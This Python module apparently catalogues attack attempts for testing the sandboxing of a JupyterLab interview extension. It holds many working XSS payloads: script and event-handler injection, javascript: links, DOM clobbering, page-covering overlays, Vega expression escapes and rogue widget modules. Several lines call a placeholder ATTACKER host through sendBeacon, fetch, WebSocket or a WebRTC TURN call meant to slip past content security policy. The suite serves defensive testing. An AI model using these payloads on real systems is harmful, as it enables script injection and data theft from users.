"""What a candidate may try, one entry an attack.

In all texts ``FIRE`` stands for a script that fires the canary in every way, quoted by
double quotes only within HTML's single ones; ``ATTACKER`` for the attacker's server, ``DOOR`` and
``SERVER`` for the interviewer's door and the server outside it.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

FIRE = (
    'self.canary&amp;&amp;canary("shot");document.title="pwned";'
    'navigator.sendBeacon("ATTACKER/beacon");new Image().src="ATTACKER/image"'
)
"""For an attribute in single quotes."""
FIRE_SCRIPT = FIRE.replace("&amp;", "&")
COVER = "position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red"
CALL = (
    "try { (async c => { c.createDataChannel(0); c.setLocalDescription(await c.createOffer()) })"
    '(new RTCPeerConnection({iceServers: [{urls: "stun:ATTACKERHOST"}, '
    '{urls: "turn:ATTACKERHOST?transport=tcp", username: "u", credential: "c"}]})) } catch { }'
)
"""A script that makes a call, which no content security policy stops."""
VEGA_LITE = "application/vnd.vegalite.v5+json"
VEGA = "application/vnd.vega.v5+json"
Cell = dict[str, Any]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One attempt.

    Attributes
    ----------
    cells:
        What is put into the notebook by raw Yjs.
    source:
        What is then run in the last of them, if anything.
    shown:
        What the interviewer's page must show before it is judged, so that an attack that never
        arrived is not taken for one that was contained (CSS selector).
    clicks:
        What the interviewer is made to click on, everything that matches (CSS selector).
    """

    name: str
    cells: Sequence[Cell] = ()
    source: str = ""
    shown: str = ""
    clicks: str = ""


def code(*outputs: dict[str, Any], source: str = "# attack", **more: Any) -> Cell:
    """Return a code cell that claims to be trusted."""
    return {
        "cell_type": "code",
        "source": source,
        "metadata": {"trusted": True},
        "outputs": list(outputs),
        **more,
    }


def markdown(source: str, **more: Any) -> Cell:
    return {
        "cell_type": "markdown",
        "source": source,
        "metadata": {"trusted": True},
        **more,
    }


def shows(mime_type: str, data: Any) -> Cell:
    """Return a code cell with one output that claims to be trusted."""
    output = {
        "output_type": "display_data",
        "data": {mime_type: data},
        "metadata": {"trusted": True, "isolated": False},
    }
    return code(output)


def _html(name: str, html: str, **more: Any) -> Attack:
    return Attack(name=name, cells=[shows("text/html", html)], **more)


def _markdown(name: str, source: str, **more: Any) -> Attack:
    return Attack(name=name, cells=[markdown(source)], **more)


def _vega(name: str, spec: dict[str, Any], mime_type: str = VEGA, **more: Any) -> Attack:
    chart = {"width": 60, "height": 60, **spec}
    return Attack(name=name, cells=[shows(mime_type, chart)], **more)


def _latex(name: str, formula: str, **more: Any) -> Attack:
    more = {"shown": "mjx-container", **more}
    return Attack(name=name, cells=[markdown(f"${formula}$")], **more)


def _runs(name: str, source: str, **more: Any) -> Attack:
    return Attack(name=name, source=source, **more)


def _everywhere(name: str, html: str, **more: Any) -> Attack:
    """The same HTML as an output, in Markdown, and in widgets."""
    source = f"import ipywidgets as w; display(w.VBox([w.HTML({html!r}), w.HTMLMath({html!r})]))"
    cells = [shows("text/html", html), markdown(f"before\n\n{html}\n\nafter")]
    more = {"shown": ".jp-OutputArea .widget-html", **more}
    return Attack(name=name, cells=cells, source=source, **more)


_IN_FRAME = ".jp-Interview-Frame iframe"

HTML = [
    _everywhere("script", f"<script>{FIRE_SCRIPT}</script><script src='ATTACKER/s.js'></script>"),
    _everywhere(
        "handlers",
        f"<img src=x onerror='{FIRE}'><input autofocus onfocus='{FIRE}'>"
        f"<details open ontoggle='{FIRE}'><summary>s</summary></details>"
        f"<video><source onerror='{FIRE}'></video><b onmouseover='{FIRE}' onclick='{FIRE}'>b</b>"
        f"<style onload='{FIRE}'></style><marquee onstart='{FIRE}'>m</marquee>",
        clicks=".jp-OutputArea b, .jp-MarkdownOutput b",
    ),
    _everywhere(
        "svg",
        f"<svg onload='{FIRE}' width=40 height=40><script>{FIRE_SCRIPT}</script>"
        f"<a xlink:href='javascript:{FIRE}' href='javascript:{FIRE}'><rect width=40 height=40 />"
        f"<animate attributeName=href values='javascript:{FIRE}' /></a>"
        "<image href='ATTACKER/i.png' /><use href='ATTACKER/u.svg#x' />"
        f"<foreignObject><img src=x onerror='{FIRE}'></foreignObject></svg>",
        clicks=".jp-OutputArea svg rect, .jp-MarkdownOutput svg rect",
    ),
    _everywhere(
        "frames",
        "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>"
        "<iframe src='javascript:parent.canary(1)'></iframe><iframe src='ATTACKER/f'></iframe>"
        "<object data='ATTACKER/o'></object><embed src='ATTACKER/e'><portal src='ATTACKER/p' />"
        "<frameset><frame src='ATTACKER/g'></frameset><iframe src='SERVER/lab'></iframe>"
        "<iframe src='DOOR/lab'></iframe>",
    ),
    _everywhere(
        "navigation",
        "<base href='ATTACKER/'><base target=_top>"
        "<meta http-equiv=refresh content='0;url=ATTACKER/r'>"
        "<link rel=stylesheet href='ATTACKER/l.css'><link rel=prefetch href='ATTACKER/l'>"
        "<link rel=preconnect href='ATTACKER'><link rel=modulepreload href='ATTACKER/m.js'>"
        "<meta http-equiv=set-cookie content='a=b'>",
    ),
    _everywhere(
        "forms",
        "<form id=f action='ATTACKER/form' method=post><input name=a value=b>"
        "<button type=submit class=go>go</button><input type=image class=go src='ATTACKER/i'>"
        "</form>"
        "<button class=go form=f formaction='ATTACKER/formaction'>go</button>"
        f"<form action='javascript:{FIRE}'><button class=go>go</button></form>",
        clicks=".jp-OutputArea .go, .jp-MarkdownOutput .go",
    ),
    _everywhere(
        "links",
        f"<a class=go href='javascript:{FIRE}'>a</a> "
        f"<a class=go href='java&#10;script:{FIRE}'>b</a> "
        f"<a class=go href='data:text/html,<script>{FIRE}</script>' target=_top>c</a> "
        "<a class=go href='SERVER/logout'>d</a> <a class=go href='/lab'>e</a> "
        "<a class=go ping='ATTACKER/ping' href='#x'>f</a>"
        "<a class=go download href='DOOR/lab'>g</a>"
        f"<map name=m><area class=go shape=default href='javascript:{FIRE}'></map>"
        "<img usemap='#m' width=20 height=20>",
        clicks=".jp-OutputArea .go, .jp-MarkdownOutput .go",
    ),
    _everywhere(
        "commands",
        "<b class=go data-commandlinker-command='apputils:change-theme' "
        'data-commandlinker-args=\'{"theme": "JupyterLab Dark"}\'>theme</b>'
        "<a class=go href='#' data-commandlinker-command='apputils:change-theme' "
        'data-commandlinker-args=\'{"theme": "JupyterLab Dark"}\'>theme</a>',
        clicks=".jp-OutputArea .go, .jp-MarkdownOutput .go",
    ),
    _everywhere(
        "clobbering",
        "<p id=jupyter-config-data>{}</p><form name=getElementById id=cookie>"
        "<img name=body id=body><img name=querySelector><input name=title></form>"
        "<a id=canary href='ATTACKER/c'></a><a id=_JUPYTERLAB></a><a id=requirejs></a>",
    ),
    _everywhere(
        "cover",
        f"<div style='{COVER}'>covered</div>"
        f"<div class='jp-Dialog lm-Menu jp-Notification Toastify__toast' style='{COVER}'>c</div>"
        f"<div style='margin:-2000px;width:6000px;height:6000px;background:red'>m</div>"
        "<div style='transform:scale(200);box-shadow:0 0 0 9999px red;outline:9999px solid red;"
        "filter:drop-shadow(0 0 900px red)'>t</div><dialog open>d</dialog>"
        "<div popover=manual id=pop>p</div><button popovertarget=pop>x</button>",
    ),
    _everywhere(
        "images",
        "<img src='ATTACKER/i.png'><img srcset='ATTACKER/s.png 1x'><img src='SERVER/logout'>"
        "<picture><source srcset='ATTACKER/p.png'><img></picture>"
        "<p style='background:url(ATTACKER/b.png);list-style:url(ATTACKER/l.png)'>p</p>"
        "<table background='ATTACKER/t.png'><tr><td>t</td></tr></table>"
        "<video poster='ATTACKER/v.png' src='ATTACKER/v'></video><audio src='ATTACKER/a'></audio>",
    ),
    _html(
        "style",
        f"<style>@import 'ATTACKER/i.css'; * {{ {COVER} !important }}"
        " .jp-Interview-RoomPanel { display: none } body { background: url(ATTACKER/b) }</style>x",
        shown=_IN_FRAME,
    ),
    _html("style-scoped", f"<style scoped>* {{ {COVER} !important }}</style><p>x</p>"),
    _html(
        "script-of-the-room",
        "<script src='DOOR/files/data/penguins.csv'></script>"
        "<script src='DOOR/api/contents/data/penguins.csv'></script>"
        "<script src='DOOR/interview/api/rooms'></script>",
        shown=_IN_FRAME,
    ),
    _html(
        "out-of-the-frame",
        "<script>for (const go of [() => parent.canary('frame'),"
        "() => top.document.title = 'pwned',"
        "() => { top.location = 'ATTACKER/top' }, () => parent.location = 'ATTACKER/parent',"
        "() => open('ATTACKER/open'), () => alert('pwned'), () => fetch('ATTACKER/fetch'),"
        "() => new WebSocket('ATTACKER/ws'.replace('http', 'ws')), () => fetch('SERVER/api'),"
        "() => new Worker('data:text/javascript,fetch(\"ATTACKER/worker\")'),"
        "() => new EventSource('ATTACKER/events'), () => navigator.sendBeacon('ATTACKER/b'),"
        "() => document.body.append(Object.assign(document.createElement('iframe'),"
        " { src: 'ATTACKER/inner' })), () => import('ATTACKER/module.js'),"
        "() => parent.postMessage({ type: 'show', html: '<img src=x onerror=canary(1)>' }, '*'),"
        "() => document.documentElement.requestFullscreen(),"
        "() => localStorage.length, () => document.cookie])"
        " { try { go()?.catch?.(() => 0) } catch { } }</script>frame",
        shown=_IN_FRAME,
    ),
    _html(
        "frame-goes-elsewhere",
        "<script>location.href = 'ATTACKER/self'</script>",
        shown=_IN_FRAME,
    ),
    _html(
        "frame-refresh",
        "<meta http-equiv=refresh content='0;url=ATTACKER/self'><script></script>",
        shown=_IN_FRAME,
    ),
    _html(
        "frame-hints",
        "<script></script><link rel=dns-prefetch href='ATTACKER'><link rel=preconnect"
        " href='ATTACKER'><link rel=prerender href='ATTACKER/p'>"
        "<link rel=preload as=script href='ATTACKER/l'>",
        shown=_IN_FRAME,
    ),
    _html(
        "frame-calls",
        f"<script>{CALL}</script><script>const inner = `<script>{CALL}<\\/script>`;"
        "const add = (change, place = document.body) => {"
        " const frame = document.createElement('iframe');"
        " try { change(frame); place.append(frame) } catch { } };"
        "add(frame => { frame.srcdoc = inner }); add(frame => frame.setAttribute('srcdoc', inner));"
        "add(frame => { const attribute = document.createAttribute('srcdoc');"
        " attribute.value = inner; frame.setAttributeNode(attribute) });"
        "add(frame => { frame.srcdoc = inner },"
        " document.body.appendChild(document.createElement('p')).attachShadow({mode: 'closed'}));"
        f"add(frame => {{ frame.src = `javascript:{CALL}` }});"
        "add(frame => { document.body.append(frame);"
        " window.RTCPeerConnection = frame.contentWindow.RTCPeerConnection });"
        "String.prototype.includes = () => false; String.prototype.toLowerCase = () => '';"
        "const holder = document.createElement('p'); document.body.append(holder);"
        "holder.innerHTML = `<iframe SRCdoc='${inner}'></iframe>`;"
        f"{CALL}</script>",
        shown=_IN_FRAME,
    ),
    _html(
        "frame-calls-in-a-page",
        f"<script></script><iframe srcdoc='<script>{CALL}</script>'></iframe>",
        shown=_IN_FRAME,
    ),
]

MIME = [
    Attack(
        name="javascript",
        cells=[shows("application/javascript", FIRE_SCRIPT)],
    ),
    Attack(
        name="javascript-text",
        cells=[
            shows("text/javascript", FIRE_SCRIPT),
            shows("application/x-javascript", FIRE_SCRIPT),
        ],
    ),
    Attack(
        name="svg-image",
        cells=[
            shows(
                "image/svg+xml",
                f"<svg xmlns='http://www.w3.org/2000/svg' onload='{FIRE}' width='9' height='9'>"
                f"<script>{FIRE_SCRIPT}</script><image href='ATTACKER/i.png' /></svg>",
            )
        ],
        shown=".jp-RenderedSVG img",
    ),
    Attack(name="pdf", cells=[shows("application/pdf", "JVBERi0xLjQKJSAK")]),
    Attack(
        name="image-of-markup",
        cells=[shows("image/png", "x' onerror='canary(1)"), shows("image/svg+xml", "<p>")],
    ),
    Attack(
        name="text-links",
        cells=[
            code(
                {
                    "output_type": "stream",
                    "name": "stdout",
                    "text": f"javascript:canary(1) <img src=x onerror='{FIRE}'> SERVER/logout\n"
                    "\x1b]8;;javascript:canary(1)\x1b\\link\x1b]8;;\x1b\\ www.canary.invalid/x\n",
                },
                {
                    "output_type": "error",
                    "ename": "<img src=x onerror=canary(1)>",
                    "evalue": "",
                    "traceback": ["<img src=x onerror=canary(1)> SERVER/logout"],
                },
            )
        ],
        shown=".jp-RenderedText pre",
        clicks=".jp-RenderedText a",
    ),
    Attack(
        name="isolated",
        cells=[
            code(
                {
                    "output_type": "display_data",
                    "data": {"text/html": f"<img src=x onerror='{FIRE}'>"},
                    "metadata": {"isolated": True, "text/html": {"isolated": True}},
                }
            )
        ],
    ),
    Attack(
        name="unknown-types",
        cells=[
            shows(
                "application/vnd.jupyter.widget-view+json", {"model_id": "<img src=x onerror=1>"}
            ),
            shows("application/vnd.bokehjs_exec.v0+json", {"id": FIRE_SCRIPT}),
            shows("application/vnd.holoviews_load.v0+json", FIRE_SCRIPT),
            shows("application/vnd.dataresource+json", {"data": []}),
            shows("application/geo+json", {"type": "<script>"}),
        ],
    ),
]

MARKDOWN = [
    _markdown(
        "markdown-links",
        f"[a](javascript:canary(1)) [b](<javascript:{FIRE_SCRIPT}>) [c](SERVER/logout) "
        "[d](../../../../logout) <javascript:canary(1)> [e](data:text/html,x) [f](vbscript:x)",
        clicks=".jp-MarkdownOutput a",
    ),
    _markdown(
        "markdown-images",
        '![a](ATTACKER/i.png) ![b](SERVER/logout) ![c](x"onerror="canary(1)) [r]\n\n'
        "[r]: ATTACKER/r\n\n![d](//canary.invalid/x.png)",
    ),
    _markdown("markdown-code", "```html\n<img src=x onerror=canary(1)>\n```\n`<script>canary(1)`"),
    _markdown(
        "markdown-heading", "# <img src=x onerror=canary(1)> jupyter-config-data\n\n## canary"
    ),
    _markdown(
        "mermaid",
        "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\n"
        'flowchart LR\n  A["<img src=x onerror=canary(1)>"] --> B\n'
        '  click A "javascript:canary(1)"\n  click B call canary(1)\n```',
        shown=".jp-RenderedMermaid, .jp-MarkdownOutput pre",
        clicks=".jp-MarkdownOutput img, .jp-MarkdownOutput svg a",
    ),
    Attack(
        name="attachments",
        cells=[
            markdown(
                "![a](attachment:a.svg) ![b](attachment:b.html) [c](attachment:b.html) "
                "<img src='attachment:c'>",
                attachments={
                    "a.svg": {
                        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{FIRE}'"
                        f" width='9' height='9'><script>{FIRE_SCRIPT}</script></svg>"
                    },
                    "b.html": {"text/html": f"<script>{FIRE_SCRIPT}</script>"},
                    "c": {"image/png": "x' onerror='canary(1)"},
                },
            )
        ],
        clicks=".jp-MarkdownOutput a",
    ),
    Attack(
        name="raw-cell",
        cells=[
            {
                "cell_type": "raw",
                "source": f"<script>{FIRE_SCRIPT}</script>",
                "metadata": {"format": "text/html", "trusted": True},
            }
        ],
        shown=".jp-RawCell",
    ),
]

LATEX = [
    _latex(
        "latex-href",
        r"\href{javascript:canary(1)}{\text{go}}",
        clicks="mjx-container, mjx-container a, mjx-container mjx-mtext",
    ),
    _latex("latex-style", rf"\style{{{COVER}}}{{x}}"),
    _latex("latex-class", r"\class{jp-Dialog lm-Menu}{x}\cssId{jupyter-config-data}{y}"),
    _latex("latex-size", r"\rule{900em}{900em}\raise{-500em}{x}\hspace{-900em}\llap{\Huge x}"),
    _latex("latex-require", r"\require{html}\href{ATTACKER/h}{x}\data{onclick=canary(1)}{y}"),
    Attack(
        name="latex-output",
        cells=[shows("text/latex", r"$\href{javascript:canary(1)}{\text{go}}$")],
        shown="mjx-container",
        clicks="mjx-container a, mjx-container mjx-mtext",
    ),
]


def _rect(**channels: Any) -> dict[str, Any]:
    enter = {k: {"value": v} for k, v in {"width": 60, "height": 60, "fill": "teal"}.items()}
    return {"type": "rect", "encode": {"enter": {**enter, **channels}}}


VEGA_CHARTS = [
    _vega("vega-data", {"data": [{"name": "a", "url": "ATTACKER/d.json"}], "marks": [_rect()]}),
    _vega("vega-data-here", {"data": [{"name": "a", "url": "SERVER/api"}], "marks": [_rect()]}),
    _vega(
        "vegalite-data",
        {"data": {"url": "ATTACKER/d.csv"}, "mark": "bar", "encoding": {}},
        VEGA_LITE,
    ),
    _vega(
        "vegalite-lookup",
        {
            "data": {"values": [{"a": 1}]},
            "transform": [
                {
                    "lookup": "a",
                    "from": {"data": {"url": "DOOR/api/me"}, "key": "a", "fields": ["b"]},
                }
            ],
            "mark": "bar",
            "encoding": {},
        },
        VEGA_LITE,
    ),
    _vega(
        "vega-image",
        {
            "marks": [
                {
                    "type": "image",
                    "encode": {
                        "enter": {
                            "url": {"value": "ATTACKER/i.png"},
                            "width": {"value": 9},
                            "height": {"value": 9},
                        }
                    },
                }
            ]
        },
    ),
    _vega(
        "vega-link",
        {"marks": [_rect(href={"value": "javascript:canary(1)"}, cursor={"value": "pointer"})]},
        shown=".vega-embed canvas, .vega-embed svg",
        clicks=".vega-embed canvas, .vega-embed svg.marks",
    ),
    _vega(
        "vega-expressions",
        {
            "signals": [
                {"name": "a", "update": "warn('x') && ''.constructor.constructor('canary(1)')()"},
            ],
            "marks": [_rect()],
        },
    ),
    _vega(
        "vega-expressions-of-events",
        {
            "signals": [
                {
                    "name": "a",
                    "value": 0,
                    "on": [
                        {
                            "events": "window:mousemove",
                            "update": "event.view.canary(1)",
                        },
                        {
                            "events": "window:mousemove",
                            "update": "replace('x', 'x', event.view.eval)",
                        },
                    ],
                }
            ],
            "marks": [_rect()],
        },
    ),
    _vega(
        "vega-options",
        {
            "marks": [_rect()],
            "usermeta": {
                "embedOptions": {
                    "loader": {"baseURL": "ATTACKER"},
                    "patch": "ATTACKER/patch.json",
                    "config": "ATTACKER/config.json",
                    "defaultStyle": f"body, .jp-Interview-RoomPanel {{ {COVER} }}",
                    "sourceHeader": f"<script>{FIRE_SCRIPT}</script>",
                    "bind": "body",
                }
            },
            "signals": [
                {"name": "b", "value": 1, "bind": {"input": "range", "element": "body"}},
                {"name": "c", "value": 1, "bind": {"event": "input", "element": ".jp-Cell"}},
            ],
        },
    ),
    _vega(
        "vega-tooltip",
        {
            "marks": [
                _rect(
                    tooltip={
                        "value": {
                            "title": "<img src=x onerror=canary(1)>",
                            "image": "ATTACKER/tooltip.png",
                            **{f"<b>{n}": "covered " * 40 for n in range(60)},
                        }
                    }
                )
            ]
        },
        shown=".vega-embed canvas, .vega-embed svg",
        clicks=".vega-embed canvas, .vega-embed svg.marks",
    ),
    _vega(
        "vega-menu",
        {
            "marks": [_rect()],
            "description": "</code></pre><meta http-equiv=refresh content='0;url=ATTACKER/source'>"
            f"<script>opener.canary(1);{FIRE_SCRIPT}</script>",
        },
        shown=".vega-embed canvas, .vega-embed svg",
        clicks=".vega-embed summary, .vega-embed .vega-actions a:not([download])",
    ),
]

_MODULE = """
import ipywidgets as w, traitlets as t
class Evil(w.DOMWidget):
    _model_name = t.Unicode('Model').tag(sync=True)
    _model_module = t.Unicode({0!r}).tag(sync=True)
    _model_module_version = t.Unicode('1.0.0').tag(sync=True)
    _view_name = t.Unicode('View').tag(sync=True)
    _view_module = t.Unicode({0!r}).tag(sync=True)
    _view_module_version = t.Unicode('1.0.0').tag(sync=True)
    _esm = t.Unicode("canary(1); export default {{render() {{ canary(1) }}}}").tag(sync=True)
display(Evil())
"""
IMG = "<img src=x onerror=canary(1)>"

WIDGETS = [
    _runs(
        "widget-texts",
        f"""
import ipywidgets as w
html = {IMG!r}
tab = w.Tab([w.Label(html)]); tab.titles = [html]
fold = w.Accordion([w.Label(html)]); fold.titles = [html]
display(w.VBox([w.Label(html), w.Button(description=html, tooltip=html, icon=html), tab, fold,
    w.Checkbox(description=html), w.ToggleButtons(options=[html], tooltips=[html]),
    w.Dropdown(options=[html], description=html), w.RadioButtons(options=[html]),
    w.Valid(value=False, readout=html), w.Combobox(options=[html]), w.Textarea(html),
    w.IntSlider(description=html, style={{'description_allow_html': True}})]))
""",
        shown=".jupyter-widgets .widget-radio",
        clicks=".jp-OutputArea .jupyter-button",
    ),
    _runs(
        "widget-media",
        """
import ipywidgets as w
url = b'ATTACKER/media'
display(w.VBox([w.Image(value=url, format='url'), w.Video(value=url, format='url'),
    w.Audio(value=url, format='url'), w.Image(value=b'<svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="canary(1)"/>', format='svg+xml')]))
""",
        shown=".jupyter-widgets img",
    ),
    _runs(
        "widget-classes",
        f"""
import ipywidgets as w
box = w.HTML('<p>covered</p>', layout=w.Layout(margin='-2000px', width='6000px', height='6000px'))
box.add_class('jp-Dialog'); box.add_class('lm-Menu')
late = w.HTML('<p>covered</p>'); display(box, late)
late.add_class('jp-Dialog'); late.add_class('jp-Notification')
late.layout.top = late.layout.left = '0'; late.layout.border = '2000px solid red'
late.layout._trait_values['display'] = '{COVER}'; late.layout.send_state()
""",
        shown=".jupyter-widgets.widget-html",
    ),
    _runs(
        "widget-output",
        f"""
import ipywidgets as w
from IPython.display import HTML, Javascript
out = w.Output(); display(out)
out.append_display_data(HTML('<script>parent.canary(1)</script>'))
out.append_display_data(HTML({IMG!r})); out.append_display_data(Javascript('canary(1)'))
with out: display(HTML({IMG!r}), Javascript('canary(1)'))
out.outputs = out.outputs + ({{'output_type': 'display_data', 'metadata': {{'trusted': True}},
    'data': {{'text/html': {IMG!r}, 'application/javascript': 'canary(1)'}}}},)
""",
        shown=".jupyter-widgets.widget-output .jp-OutputArea-child",
    ),
    _runs("widget-module-elsewhere", _MODULE.format("ATTACKER/module.js")),
    _runs("widget-module-of-the-room", _MODULE.format("DOOR/files/data/module.js")),
    _runs("widget-module-anywidget", _MODULE.format("anywidget")),
    _runs(
        "comm-module",
        """
from comm import create_comm
for module in ('ATTACKER/comm.js', 'DOOR/files/data/comm.js'):
    create_comm(target_name='canary', target_module=module, data={})
""",
    ),
]

ATTACKS: Sequence[Attack] = [*HTML, *MIME, *MARKDOWN, *LATEX, *VEGA_CHARTS, *WIDGETS]

BARE = {
    "iframe": ("<iframe src='ATTACKER/f'></iframe>", True),
    "iframe in a frame": ("<script></script><iframe src='ATTACKER/f'></iframe>", True),
    "location": ("<script>location = 'ATTACKER/l'</script>", True),
    "refresh": ("<script></script><meta http-equiv=refresh content='0;url=ATTACKER/r'>", True),
    "top": ("<script></script><a class=go href='ATTACKER/t' target=_top>go</a>", False),
    "blank": ("<script></script><a class=go href='ATTACKER/t' target=_blank>go</a>", False),
    "prefetch": ("<script></script><link rel=prefetch href='ATTACKER/p'>", False),
    "preconnect": ("<script></script><link rel=preconnect href='ATTACKER'>", False),
    "preconnect by script": (
        (
            "<script>for (const rel of ['preconnect', 'dns-prefetch', 'preload', 'modulepreload'])"
            "document.head.append(Object.assign(document.createElement('link'),"
            "{rel, as: 'script', href: 'ATTACKER/c'}))</script>"
        ),
        False,
    ),
    "speculation": (
        (
            "<script>const rules = document.createElement('script');"
            "rules.type = 'speculationrules';"
            "rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['ATTACKER/s'],"
            "eagerness: 'immediate'}], prerender: [{source: 'list', urls: ['ATTACKER/t'],"
            "eagerness: 'immediate'}]}); document.head.append(rules)</script>"
        ),
        False,
    ),
}
"""Output that names a place, and whether the browser opens a connection to it, without a byte."""
